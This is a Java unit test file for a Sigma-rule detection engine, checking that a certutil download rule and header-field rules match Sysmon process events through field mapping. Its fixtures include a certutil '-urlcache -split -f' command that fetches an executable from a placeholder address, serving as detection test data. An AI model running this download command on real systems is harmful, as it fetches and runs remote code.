package io.vigil.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.vigil.detect.match.EventContext;
import io.vigil.detect.match.EventFields;
import io.vigil.detect.match.RuleMatcher;
import io.vigil.detect.sigma.SigmaParser;
import io.vigil.detect.sigma.SigmaResult;
import io.vigil.event.NormalizedEvent;
import io.vigil.event.SourceType;
import io.vigil.ingest.normalize.IngestContext;
import io.vigil.ingest.normalize.JsonNormalizer;
import io.vigil.ingest.parse.Item;

class FieldMappingTest {

    private static final EventContext SYSMON = new EventContext("windows", "sysmon", null);

    /** A Sysmon process start as SigmaHQ's regression data renders it (shortened). */
    private static final String CERTUTIL = """
            {"Event": {"System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                "EventID": 1, "Level": 4, "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": "2025-10-24T23:41:00.601559Z"}},
                "EventRecordID": 571146, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws01"},
              "EventData": {"Image": "C:\\\\Windows\\\\System32\\\\certutil.exe",
                "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe",
                "OriginalFileName": "CertUtil.exe", "ParentImage": "C:\\\\Windows\\\\System32\\\\cmd.exe"}}}""";

    /** In the manner of SigmaHQ's proc_creation_win_certutil_download. */
    private static final String CERTUTIL_RULE = """
            title: Suspicious Download Via Certutil.EXE
            id: 19b08b1c-861d-4e75-a1ef-ea0c1baf202b
            logsource:
                category: process_creation
                product: windows
            detection:
                selection_img:
                    - Image|endswith: '\\certutil.exe'
                    - OriginalFileName: 'CertUtil.exe'
                selection_cli:
                    CommandLine|contains|all:
                        - 'urlcache '
                        - 'http'
                condition: all of selection_*
            level: high
            """;

    private static NormalizedEvent normalize(String raw) throws Exception {
        var context = new IngestContext("win", SourceType.JSON, Instant.parse("2026-11-21T10:00:00Z"));
        return new JsonNormalizer().normalize(new Item.Json(1, new ObjectMapper().readTree(raw), raw), context);
    }

    private static RuleMatcher rule(String yaml) {
        SigmaResult result = new SigmaParser().parseOne(yaml);
        assertThat(result).as("compiles: %s", result).isInstanceOf(SigmaResult.Rule.class);
        return RuleMatcher.of(((SigmaResult.Rule) result).rule());
    }

    /** A rule around the given detection lines, for Windows events. */
    private static RuleMatcher windowsRule(String detection) {
        return rule("""
                title: test rule
                id: 00000000-0000-4000-8000-000000000002
                logsource:
                    product: windows
                detection:
                """ + detection);
    }

    /** The event's fields as the detection sees them in its logsource: through that logsource's mapping. */
    private static EventFields mapped(NormalizedEvent event, EventContext context) {
        return FieldMapping.of(context).apply(new NormalizedEventFields(event));
    }

    @Test
    void aSigmaHqProcessCreationRuleMatchesTheEventAsIngested() throws Exception {
        NormalizedEvent event = normalize(CERTUTIL);
        RuleMatcher certutil = rule(CERTUTIL_RULE);
        List<EventContext> contexts = EventLogSource.of(SourceType.JSON, event).contexts();
        assertThat(contexts).extracting(EventContext::product).containsExactly("windows");

        assertThat(certutil.matches(mapped(event, contexts.get(0)))).isTrue();
        // without the mapping the rule's names are not where the event holds them
        assertThat(certutil.matches(new NormalizedEventFields(event))).isFalse();
        assertThat(certutil.matches(mapped(normalize(CERTUTIL.replace("-urlcache", "-decode")), SYSMON)))
                .isFalse();
    }

    @Test
    void headerFieldsMatchByTheirSigmaNames() throws Exception {
        EventFields fields = mapped(normalize(CERTUTIL), SYSMON);
        assertThat(windowsRule("""
                    selection:
                        EventID: 1
                        Channel: 'Microsoft-Windows-Sysmon/Operational'
                        Provider_Name: 'Microsoft-Windows-Sysmon'
                        Computer: 'ws01'
                        EventRecordID: 571146
                        Keywords: '0x8000000000000000'
                        Level: 4
                    condition: selection
                """).matches(fields)).isTrue();
        assertThat(windowsRule("""
                    selection:
                        EventID:
                            - 4688
                            - 4689
                    condition: selection
                """).matches(fields)).isFalse();
    }

    @Test
    void nullAndExistsSeeAFieldUnderEventDataAsPresent() throws Exception {
        EventFields fields = mapped(normalize(CERTUTIL), SYSMON);
        assertThat(fields.has("OriginalFileName")).isTrue();
        assertThat(fields.has("Hashes")).isFalse();
        assertThat(windowsRule("""
                    selection:
                        OriginalFileName: null
                    condition: selection
                """).matches(fields)).isFalse();
        assertThat(windowsRule("""
                    selection:
                        Hashes: null
                    condition: selection
                """).matches(fields)).isTrue();
        assertThat(windowsRule("""
                    selection:
                        Image|endswith: '\\certutil.exe'
                    filter:
                        ParentImage|exists: false
                    condition: selection and not filter
                """).matches(fields)).isTrue();
    }

    @Test
    void anEventSentAlreadyFlatStillMatches() throws Exception {
        NormalizedEvent flat = normalize("""
                {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
                 "Image": "C:\\\\Windows\\\\System32\\\\certutil.exe",
                 "CommandLine": "certutil -urlcache -f https://203.0.113.5/a"}""");
        assertThat(rule(CERTUTIL_RULE).matches(mapped(flat, SYSMON))).isTrue();
        // and its logsource is found as for the rendered XML: the category comes from channel and id
        assertThat(EventLogSource.of(SourceType.JSON, flat).contexts())
                .containsExactly(new EventContext("windows", "sysmon", "process_creation"));
        NormalizedEvent idAsText = normalize("""
                {"Channel": "Security", "EventID": "4688", "NewProcessName": "C:\\\\x.exe"}""");
        assertThat(EventLogSource.of(SourceType.JSON, idAsText).contexts())
                .containsExactly(new EventContext("windows", "security", "process_creation"));
        assertThat(EventLogSource.of(SourceType.JSON, normalize(CERTUTIL)).contexts())
                .containsExactly(new EventContext("windows", "sysmon", "process_creation"));
    }

    @Test
    void theCandidatesPerLogsource() {
        assertThat(FieldMapping.candidates(SYSMON, "EventID")).containsExactly("winlog.event_id", "EventID");
        assertThat(FieldMapping.candidates(SYSMON, "Provider_Name"))
                .containsExactly("winlog.provider_name", "Provider_Name");
        assertThat(FieldMapping.candidates(SYSMON, "Image"))
                .containsExactly("winlog.event_data.Image", "winlog.user_data.Image", "Image");
        assertThat(FieldMapping.candidates(SYSMON, "Keywords")).containsExactly("winlog.event_data.Keywords",
                "winlog.user_data.Keywords", "Event.System.Keywords", "System.Keywords", "Keywords");
        assertThat(FieldMapping.candidates(SYSMON, "Image")).isSameAs(FieldMapping.candidates(SYSMON, "Image"));

        EventContext cloudTrail = new EventContext("aws", "cloudtrail", null);
        assertThat(FieldMapping.candidates(cloudTrail, "eventName")).containsExactly("eventName");
        assertThat(FieldMapping.candidates(EventContext.NONE, "Image")).containsExactly("Image");
        EventFields plain = new NormalizedEventFields(new NormalizedEvent("e", Instant.EPOCH, "s",
                new ObjectMapper().createObjectNode()));
        assertThat(FieldMapping.of(cloudTrail).apply(plain)).isSameAs(plain);
    }
}
